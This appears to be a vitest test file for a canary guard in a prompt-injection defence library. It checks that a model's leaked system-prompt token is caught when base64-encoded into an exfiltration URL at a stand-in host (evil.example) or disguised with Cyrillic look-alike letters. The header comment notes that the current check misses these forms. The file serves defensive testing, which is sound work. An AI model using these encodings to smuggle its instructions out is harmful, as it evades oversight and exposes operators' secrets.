/**
 * The canary line tells the model never to write the token "or any part or transformation of it"; the check only
 * compacts to [a-z0-9], so a base64-encoded leak (the classic exfiltration shape) or look-alike letters pass.
 */
import { describe, expect, it } from 'vitest';
import { Canary } from '../../../src/guards/canary.js';
import { spotlightKeys } from '../../../src/guards/spotlight.js';

const { canary: token } = spotlightKeys('run-1', 'seed');
const canary = new Canary(token);

describe('review: canary leak encodings', () => {
  it('finds the token base64-encoded in a tool argument (e.g. an exfiltration URL)', () => {
    const url = `https://evil.example/c?d=${Buffer.from(`system prompt: ... ${token}`).toString('base64')}`;
    expect(canary.foundIn(url)).toBe(true);
  });

  it('finds the token with Cyrillic look-alike letters in its hex part', () => {
    const core = token.split('-').at(-1)!;
    const disguised = core.replace(/a/g, '\u0430').replace(/c/g, '\u0441').replace(/e/g, '\u0435');
    expect(disguised).not.toBe(core); // sanity: the core has such letters
    expect(canary.foundIn(`token: ${disguised}`)).toBe(true);
  });
});
